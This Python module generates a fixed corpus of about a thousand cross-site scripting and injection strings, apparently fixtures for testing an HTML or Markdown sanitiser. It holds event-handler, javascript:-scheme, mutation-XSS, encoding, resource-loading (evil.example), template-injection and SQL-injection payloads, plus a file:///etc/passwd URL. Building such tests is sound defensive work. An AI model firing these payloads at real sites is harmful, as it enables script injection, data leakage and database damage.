"""A thousand strings that try to run a script or to ask another host, of the classes that OWASP's cheat sheets list.

Ours, and made by rule: class × variation. Each calls ``ran()``, which the test defines, or asks ``evil.example``.
"""

# ruff: noqa: E501 - a string stands on one line, however long it is
from collections.abc import Iterator
from itertools import islice, product

EVIL = "//evil.example/x"
SEPARATORS = (" ", "/", "\t", "\n", "\x0c", " / ", "\r\n")
ONES_OWN = (  # elements with an event that comes by itself
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video", "onloadstart"), ("details open", "ontoggle"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("marquee", "onstart"), ("iframe src=/healthz", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"),
    ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"), ("image src=x", "onerror"),
    ("a id=x tabindex=1 autofocus", "onfocus"), ("x contenteditable autofocus", "onfocus"),
)  # fmt: skip
OTHERS = (
    "onclick", "ondblclick", "onmouseover", "onmouseenter", "onpointerenter", "onpointerdown", "onkeydown", "oninput",
    "onchange", "onpaste", "oncopy", "oncut", "ondrag", "ondrop", "onwheel", "onscroll", "oncontextmenu", "onblur",
    "onfocusin", "onanimationstart", "onanimationend", "ontransitionend", "onbeforetoggle", "oncancel", "onclose",
    "onsubmit", "onreset", "oninvalid", "onselect", "onhashchange", "onmessage", "onpopstate", "onbeforeinput",
    "onauxclick", "ontouchstart", "onfullscreenchange", "onscrollend", "onsecuritypolicyviolation", "onslotchange",
)  # fmt: skip
TAGS = ("p", "a", "b", "mark", "td", "li", "div", "button", "x-y", "h2")
SCHEMES = (
    "javascript:ran()", "JaVaScRiPt:ran()", " javascript:ran()", "java\tscript:ran()", "java\nscript:ran()",
    "\x01javascript:ran()", "javascript&colon;ran()", "&#106;avascript:ran()", "&#x6a;avascript:ran()",
    "&#0000106avascript:ran()", "java&Tab;script:ran()", "java&NewLine;script:ran()", "javascript:%72an()",
    "javascript://%0aran()", "javascript:/*--></script>*/ran()", "vbscript:ran()", "livescript:ran()",
    "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=ran()>", "view-source:javascript:ran()", "feed:javascript:ran()",
    "jav\u200bascript:ran()", "ｊavascript:ran()", "javaſcript:ran()", "blob:javascript:ran()", "file:///etc/passwd",
)  # fmt: skip
PLACES = (
    '<a href="{}">点</a>', "<a href='{}'>点</a>", "<a href={}>点</a>", '<form action="{}"><button>点</button></form>',
    '<button formaction="{}" form=f>点</button>', '<iframe src="{}"></iframe>', '<embed src="{}">',
    '<object data="{}"></object>', '<svg><a xlink:href="{}"><text y=9>点</text></a></svg>',
    '<math href="{}">点</math>', '<img src="{}">', '<area href="{}" shape=default>', '<base href="{}">',
    '<link rel=import href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<body background="{}">',
    '<table background="{}"><tr><td>点</table>', '<input type=image src="{}">', '<video poster="{}"></video>',
    '<svg><use href="{}"></use></svg>', '<svg><animate attributeName=href values="{}"></svg>',
    "[点]({})", "[点](<{}>)", '[点]({} "x")', "![点]({})", "<{}>", "[点][h]\n\n[h]: {}", "[点]: {}\n\n[点]",
)  # fmt: skip
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=ran()>">', "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=ran() src=1>">',
    "<template><img src=x onerror=ran()></template>", "<xmp><p title=\"</xmp><img src=x onerror=ran()>\">",
    '<title><p title="</title><img src=x onerror=ran()>">', "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src=x onerror=ran()>\">",
    "<svg><foreignObject><body onload=ran()></foreignObject></svg>", "<svg><script>ran()</script></svg>",
    "<svg><script xlink:href=data:,ran()></script>", "<svg><set attributeName=onmouseover to=ran()>",
    '<svg><animate onbegin=ran() attributeName=x dur=1s>', "<svg><desc><img src=x onerror=ran()></desc></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()>点</maction></math>",
    "<!--><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()> -->", "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml version='1.0'?><img src=x onerror=ran()>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=ran()>'>]>&y;",
    "<plaintext><img src=x onerror=ran()>", "<listing>&lt;img onerror=ran() src=x&gt;</listing>",
    "<iframe srcdoc='<img src=x onerror=parent.ran()>'></iframe>", "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;'></iframe>",
    "<scr<script>ipt>ran()</scr</script>ipt>", "<<script>ran()//<</script>", "<script/src=data:,ran()></script>",
    "<script x>ran()</script x>", "<script\x20type=module>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script>ran()",
    "<img src=x onerror=ran() <p>", "<img \"\"\"><script>ran()</script>\">", "<img src='x' onerror='ran()' '>",
    "<IMG SRC=x OnErRoR=ran()>", "<img/src/onerror=ran()>", "<img src=x onerror\n=\nran()>", "<img src=x onerror=`ran()`>",
    "<a\nhref=javascript:ran()>点", "<p/onclick=ran()//>", "<isindex action=javascript:ran() type=image>", "<keygen autofocus onfocus=ran()>",
    "<dialog open onclose=ran()><form method=dialog><button>点</button></form></dialog>", "<div popover id=p onbeforetoggle=ran()></div>",
    "<input type=hidden accesskey=X onclick=ran()>", "<portal src=javascript:ran()>", "<frameset onload=ran()>", "<applet code=x onerror=ran()>",
)  # fmt: skip
SPELLINGS = (
    "＜script＞ran()＜/script＞", "＜img src=x onerror=ran()＞", "﹤script﹥ran()﹤/script﹥", "&lt;script&gt;ran()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=ran()&amp;gt;", "&#60;img src=x onerror=ran()&#62;", "&#x3c;img src=x onerror=ran()&#x3e;",
    "\\u003cimg src=x onerror=ran()\\u003e", "\\x3cimg src=x onerror=ran()\\x3e", "%3Cimg%20src=x%20onerror=ran()%3E",
    "%253Cimg%2520src=x%2520onerror=ran()%253E", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "<\u200bimg src=x onerror=ran()>",
    "<i\u00admg src=x onerror=ran()>", "<img\u00a0src=x\u00a0onerror=ran()>", "<img\u3000src=x\u3000onerror=ran()>",
    "\u202e<img src=x onerror=ran()>", "\ufeff<img src=x onerror=ran()>", "<ıframe src=javascript:ran()>", "<ſcript>ran()</ſcript>",
    "<ｓcript>ran()</ｓcript>", "<\u017fvg onload=ran()>", "‹img src=x onerror=ran()›", "<img src=x onerror=\u2028ran()>",
    "<img src=x one\u0301rror=ran()>", "\ufdd0<img src=x onerror=ran()>\ufdd1", "\ufdd00\ufdd1<img src=x onerror=ran()>",
    "【待填：<img src=x onerror=ran()>】", "【待填：\" onmouseover=ran() x=\"】", '<a href="【待填：javascript:ran()】">点</a>',
    '<a title="【待填：" onmouseover=ran() x="】">点</a>', "<mark>\" onmouseover=ran()</mark>", "\x02mark\x03<img src=x onerror=ran()>",
)  # fmt: skip
STYLES = (
    "<p style=background:url({0})>点", '<p style="x:expression(ran())">点', '<p style="behavior:url({0})">点',
    "<style>@import '{0}';</style>", "<style>*{{background:url({0})}}</style>", "<style>body{{display:none}}</style>",
    '<p style="animation:x 1s" onanimationstart=ran()>点', "<link rel=stylesheet href={0}>", "<link rel=prefetch href={0}>",
    "<link rel=preconnect href={0}>", "<link rel=dns-prefetch href={0}>", "<img src={0}>", "<img srcset={0}>", "![点]({0})",
    "<video src={0} autoplay>", "<audio src={0} autoplay>", "<source src={0}>", "<track src={0}>", "<iframe src={0}></iframe>",
    "<embed src={0}>", "<object data={0}></object>", "<script src={0}></script>", "<meta http-equiv=refresh content=0;url={0}>",
    "<base href={0}>", "<a href=/ ping={0}>点</a>", "<svg><image href={0}></svg>", "<svg><use href={0}#a></svg>",
    "<svg><filter><feImage href={0}></filter></svg>", "<input type=image src={0}>", "<table background={0}><tr><td>点</table>",
    "<form action={0}><input name=a><button autofocus>点</button></form>", "<html manifest={0}>", "<math><mglyph src={0}></math>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% print(7*7) %}", "{% raw %}", "{# x #}", "${ran()}", "`${ran()}`",
    "#{ran()}", "<%= ran() %>", "[[ran()]]", "{{constructor.constructor('ran()')()}}", "{{$on.constructor('ran()')()}}",
    "%(name)s", "%s%s%s", "%n%x", "%%(x)s", "{0}", "{name}", "{0.__class__}", "$1 \\1 \\g<0>", "__proto__", "constructor", "toString",
    "<b data-bs-toggle=tooltip data-bs-html=true title='<img src=x onerror=ran()>'>点</b>", "<a data-bs-toggle=modal data-bs-target=#x>点</a>",
    "<p hx-get=/ v-html=x x-init=ran() ng-init=ran()>点</p>", "<p data-open data-card data-desk=x>点</p>", "<form id=desk-form></form>", "<img name=querySelector>",
    "<a id=defaultView href=x>点</a>", "<form name=body><input name=firstChild></form>", "' OR 1=1 --", "\"; DROP TABLE entries; --", "*:*", "title:(\"", "((((", "\\", "\\\\\"", "NOT AND OR",
)  # fmt: skip
BREAKS = (
    '"', "'", "`", '">', "'>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</a>", "</main>",
    "-->", "]]>", "*/", "\n", "\r\n\r\n", "</td></tr></table>", "</noscript>", "</template>", "</svg>", "</details>", '\\"', "\\'",
)  # fmt: skip
AFTER = (
    "<img src=x onerror=ran()>", "<script>ran()</script>", " autofocus onfocus=ran() x=", " onmouseover=ran() x=", "<svg onload=ran()>",
    ";ran();//",
)  # fmt: skip
MARKDOWN = (
    "```\"><img src=x onerror=ran()>\ncode\n```", "```html onload=ran()\n<b>\n```", "~~~'><svg onload=ran()>\nx\n~~~",
    "`<img src=x onerror=ran()>`", "``` `<script>ran()</script>` ```", "    <img src=x onerror=ran()>", "> <img src=x onerror=ran()>",
    "- <svg onload=ran()>", "1. <svg onload=ran()>", "| a | b |\n|---|---|\n| <svg onload=ran()> | <img src=x onerror=ran()> |",
    "# <img src=x onerror=ran()>", "**<img src=x onerror=ran()>**", "_<svg/onload=ran()>_", "[<img src=x onerror=ran()>](/x)",
    '[点](/x "\\"onmouseover=ran() x=\\"")', "[点](/x 'a\" onmouseover=ran()')", '![点" onerror="ran()](x)', "![点](x\"onerror=\"ran())",
    "[点](/x)<img src=x onerror=ran()>", "[a](javascript:ran()", "[a](j a v a s c r i p t:ran())", "[a]( javascript:ran())", "[a](\tjavascript:ran())",
    "[a](javascript:ran(')')", "[a](//evil.example)<base href=//evil.example>", "<http://x\"onmouseover=ran()>", "<x@y.z\"onmouseover=ran()>",
    "[点][1]\n\n[1]: javascript:ran() 'x'", "[点][2]\n\n[2]: /x '\" onmouseover=ran() \"'", "![点][3]\n\n[3]: x 'onerror=ran()'", "*[HTML]: <img src=x onerror=ran()>\n\nHTML",
    "[^1]\n\n[^1]: <img src=x onerror=ran()>", "<p markdown=1>\n<img src=x onerror=ran()>\n</p>", "<div>\n\n[a](javascript:ran())\n\n</div>",
    "\\<img src=x onerror=ran()\\>", "\\[a](javascript:ran())", "&lt;img src=x onerror=ran()&gt;\n===", "[TOC]<img src=x onerror=ran()>", "{: onclick=ran()}", "# 点 {onclick=ran()}",
)  # fmt: skip

SIZE = 1000


def _all() -> Iterator[str]:
    yield from MUTATIONS
    yield from SPELLINGS
    yield from (style.format(where) for style in STYLES for where in (EVIL, f"https:{EVIL}"))
    yield from TEMPLATES
    yield from MARKDOWN
    yield from (before + after for before, after in product(BREAKS, AFTER))
    for number, ((tag, event), between) in enumerate(product(ONES_OWN, SEPARATORS)):
        quote = ("", '"', "'")[number % 3]
        yield f"<{tag}{between}{event}={quote}ran(){quote}>"
    for number, event in enumerate(OTHERS):
        for step in range(3):
            tag = TAGS[(number + step * 3) % len(TAGS)]
            yield f"<{tag} {event}=ran() tabindex=0>点</{tag}>"
    places = list(product(range(len(SCHEMES)), range(len(PLACES))))
    # Every scheme and every place early, then all of their pairs.
    places.sort(key=lambda pair: (pair[1] - pair[0]) % len(PLACES))
    yield from (PLACES[place].format(SCHEMES[scheme]) for scheme, place in places)


def corpus() -> list[str]:
    """Return the strings: all different, the same ones at every run."""
    return list(islice(dict.fromkeys(_all()), SIZE))
